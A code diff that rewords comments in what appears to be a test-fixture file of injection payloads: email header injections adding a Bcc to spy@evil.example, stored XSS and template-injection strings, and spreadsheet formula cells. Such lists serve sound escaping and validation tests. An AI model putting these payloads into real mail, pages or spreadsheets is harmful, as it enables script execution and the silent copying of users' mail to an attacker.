@@ -1,4 +1,4 @@
-/** Text that would add a header to a mail, were it put into one as it is. */
+/** Text that would add a header to a mail if inserted unescaped. */
 export const HEADER_INJECTIONS = [
   'Ann\r\nBcc: spy@evil.example',
   'Ann\nBcc: spy@evil.example',
@@ -15,7 +15,7 @@ export const HEADER_INJECTIONS = [
   '\u202eelpmaxe.live@yps :ccB',
 ];
 
-/** A stored script's ways into a page, a mail or a table (after OWASP's cheat sheet on filter evasion). */
+/** Stored XSS payloads for pages, mails and tables (after OWASP's cheat sheet on filter evasion). */
 export const SCRIPTS = [
   '<script>alert(1)</script>',
   '"><script>alert(1)</script>',
@@ -43,7 +43,7 @@ export const SCRIPTS = [
   '{{constructor.constructor("alert(1)")()}}',
 ];
 
-/** What a spreadsheet would run. */
+/** Cells that a spreadsheet would execute. */
 export const FORMULAS = [
   '=1+1',
   '+1+1',
